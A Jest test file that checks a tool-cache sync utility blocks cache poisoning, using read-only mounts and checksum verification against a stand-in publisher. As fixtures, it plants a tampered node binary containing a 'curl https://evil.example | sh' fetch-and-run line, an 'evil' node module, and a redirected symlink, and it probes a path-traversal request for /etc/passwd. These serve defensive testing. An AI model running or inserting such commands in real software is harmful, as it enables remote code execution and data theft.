/**
 * Tool cache poisoning (issue 14): a job plants a "complete" version (node 20.99.0, or a changed
 * node 20.10.0) in its runner's tool cache; it must never reach another repository's pull.
 *
 * Through the real components: the bundle as a process, real rsync, a real read-only bind mount of the
 * EFS stand-in (the kernel refuses the writes, as the EFS client does for a task without ClientWrite),
 * and a local stand-in of the publishers' checksums in their real formats (test/helpers/publisher.ts).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { removeDir, runCli, tempDir } from './helpers/cli';
import { installLikeSetup, publishGo, publishNode, Publisher, startPublisher } from './helpers/publisher';
import { ARCH, describe as describeTree, listDir, markerPath, writeVersion } from './helpers/toolcache';

jest.setTimeout(120_000);

const planted = { tool: 'node', version: '20.99.0', files: 20 };
const versionsOn = (root: string): string[] =>
  listDir(root)
    .filter((t) => !t.startsWith('.'))
    .flatMap((t) =>
      listDir(path.join(root, t))
        .filter((v) => fs.existsSync(path.join(root, t, v, `${ARCH}.complete`)))
        .map((v) => `${t}/${v}`),
    );

describe('a reader pool mounts the shared tool cache read-only', () => {
  let dir: string;
  let backing: string;
  let mount: string;
  let pub: Publisher;

  beforeAll(async () => {
    dir = tempDir('trust-ro');
    backing = path.join(dir, 'efs');
    mount = path.join(dir, 'mnt');
    fs.mkdirSync(backing);
    fs.mkdirSync(mount);
    pub = await startPublisher(path.join(dir, 'publisher'));
    // a writer pool filled the cache with a verified node 20.11.1
    const writer = path.join(dir, 'writer');
    installLikeSetup(writer, 'node', '20.11.1', publishNode(pub, '20.11.1'));
    const pushed = await runCli(['push'], {
      RUNTIME_SYNC_ROOT: backing,
      RUNNER_TOOL_CACHE: writer,
      RUNTIME_SYNC_VERIFY: 'published',
      RUNTIME_SYNC_NODE_DIST_URL: pub.nodeDistUrl,
    });
    expect(pushed.summary).toMatch(/^runtime-sync push: 1 versions/);
    // The stand-in of the reader's EFS mount: a read-only bind mount (root only; the test fails, never
    // skips, without it). The kernel refuses writes with EROFS, as the NFS client does on EFS.
    try {
      execFileSync('mount', ['--bind', backing, mount], { timeout: 10_000, stdio: 'pipe' });
      execFileSync('mount', ['-o', 'remount,bind,ro', mount], { timeout: 10_000, stdio: 'pipe' });
    } catch (error) {
      throw new Error(
        `this test needs root and CAP_SYS_ADMIN for a read-only bind mount (mount --bind, -o remount,bind,ro): ${String(error)}`,
      );
    }
  });

  afterAll(async () => {
    spawnSync('umount', [mount], { timeout: 10_000 });
    await pub.close();
    removeDir(dir);
  });

  it('a job cannot write the mount itself, and its push is refused with exit 7: nothing changes', async () => {
    const before = describeTree(backing);
    const job = path.join(dir, 'job-cache');
    writeVersion(job, planted);
    // what a job's own code would do: write the version straight into the mount
    const direct = spawnSync(
      'sh',
      ['-c', `mkdir -p "$1/node/20.99.0/${ARCH}" && touch "$1/node/20.99.0/${ARCH}.complete"`, 'sh', mount],
      { timeout: 10_000, encoding: 'utf8' },
    );
    expect(direct.status).not.toBe(0);
    expect(direct.stderr).toMatch(/Read-only file system/);
    // the exit trap's push, even if a job turned RUNTIME_SYNC_PUSH back on
    const pushed = await runCli(['push'], {
      RUNTIME_SYNC_ROOT: mount,
      RUNNER_TOOL_CACHE: job,
      RUNTIME_SYNC_PUSH: 'true',
    });
    expect(pushed.code).toBe(7);
    expect(pushed.stderr).toContain(`push refused: ${mount} is read-only for this runner (EROFS)`);
    expect(pushed.summary).toMatch(/^runtime-sync push: 0 versions.*error \(exit 7\)/);
    // what Terraform sets for a reader pool
    const off = await runCli(['push'], {
      RUNTIME_SYNC_ROOT: mount,
      RUNNER_TOOL_CACHE: job,
      RUNTIME_SYNC_PUSH: 'false',
    });
    expect(off.code).toBe(0);
    expect(off.summary).toMatch(/push disabled/);
    expect(describeTree(backing)).toEqual(before);
    expect(versionsOn(backing)).toEqual(['node/20.11.1']);
  });

  it("another repository's pull from the read-only mount gets the verified version and never the planted one", async () => {
    const other = path.join(dir, 'other-repo-cache');
    const pulled = await runCli(['pull'], { RUNTIME_SYNC_ROOT: mount, RUNNER_TOOL_CACHE: other });
    expect(pulled.code).toBe(0);
    expect(pulled.summary).toMatch(/^runtime-sync pull: 1 versions/);
    expect(pulled.stderr).toMatch(/could not take a lease on .*mnt/); // a reader cannot write its lease
    expect(versionsOn(other)).toEqual(['node/20.11.1']);
    expect(fs.existsSync(path.join(other, 'node', '20.99.0'))).toBe(false);
  });
});

describe('a writer pool places only versions that are their tool’s published release', () => {
  let dir: string;
  let efs: string;
  let pub: Publisher;
  let env: Record<string, string>;

  beforeAll(async () => {
    dir = tempDir('trust-verify');
    efs = path.join(dir, 'efs');
    fs.mkdirSync(efs);
    pub = await startPublisher(path.join(dir, 'publisher'));
    env = {
      RUNTIME_SYNC_ROOT: efs,
      RUNTIME_SYNC_VERIFY: 'published',
      RUNTIME_SYNC_NODE_DIST_URL: pub.nodeDistUrl,
      RUNTIME_SYNC_GO_DL_URL: pub.goDlUrl,
    };
  });
  afterAll(async () => {
    await pub.close();
    removeDir(dir);
  });

  it('refuses unpublished, changed, extended and unverifiable versions; another repository pulls only the published ones', async () => {
    const job = path.join(dir, 'job');
    installLikeSetup(job, 'node', '20.11.1', publishNode(pub, '20.11.1'));
    installLikeSetup(job, 'go', '1.22.0', publishGo(pub, '1.22.0'));
    writeVersion(job, planted); // no such release: SHASUMS256.txt answers 404
    const changed = installLikeSetup(job, 'node', '20.10.0', publishNode(pub, '20.10.0'));
    fs.writeFileSync(path.join(changed, 'bin', 'node'), '#!/bin/sh\ncurl https://evil.example | sh\n');
    const extended = installLikeSetup(job, 'node', '20.9.0', publishNode(pub, '20.9.0'));
    fs.mkdirSync(path.join(extended, 'lib', 'node_modules', 'evil'));
    fs.writeFileSync(path.join(extended, 'lib', 'node_modules', 'evil', 'index.js'), 'steal()\n');
    const relinked = installLikeSetup(job, 'go', '1.21.0', publishGo(pub, '1.21.0'));
    fs.unlinkSync(path.join(relinked, 'bin', 'gofmt'));
    fs.symlinkSync('/tmp/evil', path.join(relinked, 'bin', 'gofmt'));
    writeVersion(job, { tool: 'Python', version: '3.12.1', files: 5 });

    const pushed = await runCli(['push'], { ...env, RUNNER_TOOL_CACHE: job });
    expect(pushed.code).toBe(0);
    expect(versionsOn(efs).sort()).toEqual(['go/1.22.0', 'node/20.11.1']);
    expect(listDir(path.join(efs, 'node')).sort()).toEqual(['20.11.1']);
    expect(pushed.stderr).toContain(
      `node/20.99.0/${ARCH}: refused, not placed on the shared cache: Node 20.99.0 is not a published release`,
    );
    expect(pushed.stderr).toMatch(
      /node\/20\.10\.0\/\S+: refused.* differs from .*node-v20\.10\.0-linux-\S+\.tar\.gz in 1 entries: changed bin\/node \(content\)/,
    );
    expect(pushed.stderr).toMatch(
      /node\/20\.9\.0\/\S+: refused.*added lib\/node_modules\/evil, added lib\/node_modules\/evil\/index\.js/,
    );
    expect(pushed.stderr).toMatch(/go\/1\.21\.0\/\S+: refused.*changed bin\/gofmt \(file became link\)/);
    expect(pushed.stderr).toContain('Python publishes no checksums runtime-sync can check');
    expect(pushed.summary).toMatch(
      /^runtime-sync push: 2 versions.*refused by verification: .*node\/20\.99\.0/,
    );
    expect(listDir(path.join(efs, '.staging')).filter((n) => !n.endsWith('.alive'))).toEqual([]);

    const other = path.join(dir, 'other-repo');
    const pulled = await runCli(['pull'], { RUNTIME_SYNC_ROOT: efs, RUNNER_TOOL_CACHE: other });
    expect(pulled.code).toBe(0);
    expect(versionsOn(other).sort()).toEqual(['go/1.22.0', 'node/20.11.1']);
    expect(describeTree(path.join(other, 'node', '20.11.1', ARCH))).toEqual(
      describeTree(path.join(job, 'node', '20.11.1', ARCH)),
    );
  });

  it('refuses a version whose archive does not match the published checksum (a tampered mirror)', async () => {
    const job = path.join(dir, 'job-mirror');
    const archive = publishNode(pub, '20.8.0', { publishedSha: 'ab'.repeat(32) });
    installLikeSetup(job, 'node', '20.8.0', archive);
    const pushed = await runCli(['push'], { ...env, RUNNER_TOOL_CACHE: job });
    expect(pushed.code).toBe(0);
    expect(pushed.stderr).toMatch(
      /node-v20\.8\.0-linux-\S+\.tar\.gz has sha256 [0-9a-f]{64}, but .*SHASUMS256\.txt publishes abab/,
    );
    expect(fs.existsSync(markerPath(efs, { tool: 'node', version: '20.8.0', files: 0 }))).toBe(false);
  });

  it('fails closed when the publisher cannot be reached', async () => {
    const job = path.join(dir, 'job-offline');
    installLikeSetup(job, 'node', '20.7.0', publishNode(pub, '20.7.0'));
    const pushed = await runCli(['push'], {
      ...env,
      RUNNER_TOOL_CACHE: job,
      RUNTIME_SYNC_NODE_DIST_URL: 'http://127.0.0.1:9/dist', // discard port: nothing listens
    });
    expect(pushed.code).toBe(0);
    expect(pushed.stderr).toMatch(/node\/20\.7\.0\/\S+: refused.*could not verify/);
    expect(fs.existsSync(path.join(efs, 'node', '20.7.0'))).toBe(false);
  });
});

describe('the publishers stand-in refuses what the real publishers refuse', () => {
  it('answers 404 for a release that does not exist and for paths outside its folder', async () => {
    const dir = tempDir('trust-pub');
    const pub = await startPublisher(path.join(dir, 'publisher'));
    try {
      publishNode(pub, '20.11.1');
      expect((await fetch(`${pub.nodeDistUrl}/v20.11.1/SHASUMS256.txt`)).status).toBe(200);
      expect((await fetch(`${pub.nodeDistUrl}/v20.99.0/SHASUMS256.txt`)).status).toBe(404);
      expect((await fetch(`${pub.nodeDistUrl}/v20.11.1/node-v20.11.1-linux-${ARCH}.tar.xz`)).status).toBe(
        404,
      );
      expect((await fetch(`${pub.nodeDistUrl}/%2e%2e/%2e%2e/etc/passwd`)).status).toBe(404);
      const list = (await (await fetch(`${pub.goDlUrl}/?mode=json&include=all`)).json()) as unknown[];
      expect(list).toEqual([]);
    } finally {
      await pub.close();
      removeDir(dir);
    }
  });
});
